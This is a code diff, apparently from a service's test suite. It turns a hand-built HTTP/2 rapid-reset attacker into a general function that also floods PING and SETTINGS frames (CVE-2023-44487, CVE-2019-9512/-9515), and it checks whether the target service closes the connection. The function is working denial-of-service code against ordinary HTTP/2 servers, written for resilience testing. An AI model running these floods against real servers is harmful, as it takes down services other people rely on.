@@ -56,12 +56,19 @@ function frame(type: number, flags: number, stream: number, payload: Buffer): Bu
 }
 
 /**
- * A rapid-reset attacker (CVE-2023-44487), written frame by frame as the published attack tools do (Node's
- * client would not send a stream it cancels at once): HEADERS for `GET path` then RST_STREAM CANCEL, for
- * stream after stream, without reading. Resolves once the service has closed the connection, with how many
- * streams were sent; rejects when it is still open after `maxStreams`.
+ * An HTTP/2 attacker, written frame by frame as the published attack tools do (Node's client would not send
+ * a stream it cancels at once, nor flood): `rapid-reset` (CVE-2023-44487) sends HEADERS for `GET path` then
+ * RST_STREAM CANCEL, stream after stream; `ping` and `settings` send PING or SETTINGS frames, each asking an
+ * acknowledgement (CVE-2019-9512, -9515). It never reads. Resolves once the service has closed the
+ * connection, with how many streams or frames were written; rejects when it is still open after `max`.
  */
-export async function rapidReset(port: number, caFile: string, path: string, maxStreams = 200_000): Promise<number> {
+export async function attack(
+  kind: 'rapid-reset' | 'ping' | 'settings',
+  port: number,
+  caFile: string,
+  path = '/',
+  max = 200_000,
+): Promise<number> {
   // HPACK: :method GET (static 2), :scheme https (static 7), :path (name static 4, literal value),
   // :authority (name static 1, literal value), none of them indexed.
   const block = Buffer.concat([
@@ -79,33 +86,41 @@ export async function rapidReset(port: number, caFile: string, path: string, max
   });
   let closed = false;
   socket.on('close', () => (closed = true));
-  // The service's frames are not read: only whether it closes.
-  socket.on('data', () => undefined);
   socket.on('error', () => undefined);
   await new Promise((resolve, reject) => socket.once('secureConnect', resolve).once('error', reject));
+  // The service's frames are never read (its acknowledgements pile up): only whether it closes.
+  socket.pause();
   if (socket.alpnProtocol !== 'h2') throw new Error(`ALPN chose ${socket.alpnProtocol}, not h2`);
   socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, Buffer.alloc(0))]));
   let sent = 0;
-  for (let id = 1; !closed && sent < maxStreams;) {
+  const ping = frame(6, 0, 0, Buffer.alloc(8));
+  // SETTINGS_MAX_CONCURRENT_STREAMS = 100, again and again.
+  const settings = frame(4, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100]));
+  for (let id = 1; !closed && sent < max;) {
     const batch: Buffer[] = [];
     for (let i = 0; i < 100; i++, id += 2, sent++) {
-      batch.push(frame(1, 0x5, id, block), frame(3, 0, id, Buffer.from([0, 0, 0, 8])));
+      if (kind === 'ping') batch.push(ping);
+      else if (kind === 'settings') batch.push(settings);
+      else batch.push(frame(1, 0x5, id, block), frame(3, 0, id, Buffer.from([0, 0, 0, 8])));
     }
     // A service that stops reading without closing leaves the writes waiting: a minute of that is a verdict.
     if (!socket.write(Buffer.concat(batch))) {
       let timer: NodeJS.Timeout | undefined;
-      const moved = await new Promise<boolean>((resolve) => {
-        timer = setTimeout(() => resolve(false), 60_000);
-        socket.once('drain', () => resolve(true)).once('close', () => resolve(true));
-      });
+      let moved: (went: boolean) => void = () => undefined;
+      const went = () => moved(true);
+      const outcome = new Promise<boolean>((resolve) => (moved = resolve));
+      timer = setTimeout(() => moved(false), 60_000);
+      socket.once('drain', went).once('close', went);
+      const ok = await outcome;
       clearTimeout(timer);
-      if (!moved) break;
+      socket.off('drain', went).off('close', went);
+      if (!ok) break;
     }
     await new Promise((resolve) => setImmediate(resolve));
   }
   if (!closed) {
     socket.destroy();
-    throw new Error(`the service kept the connection open (unread, or served) after ${sent} reset streams`);
+    throw new Error(`the service kept the connection open (unread, or served) after ${sent} ${kind} frames`);
   }
   return sent;
 }
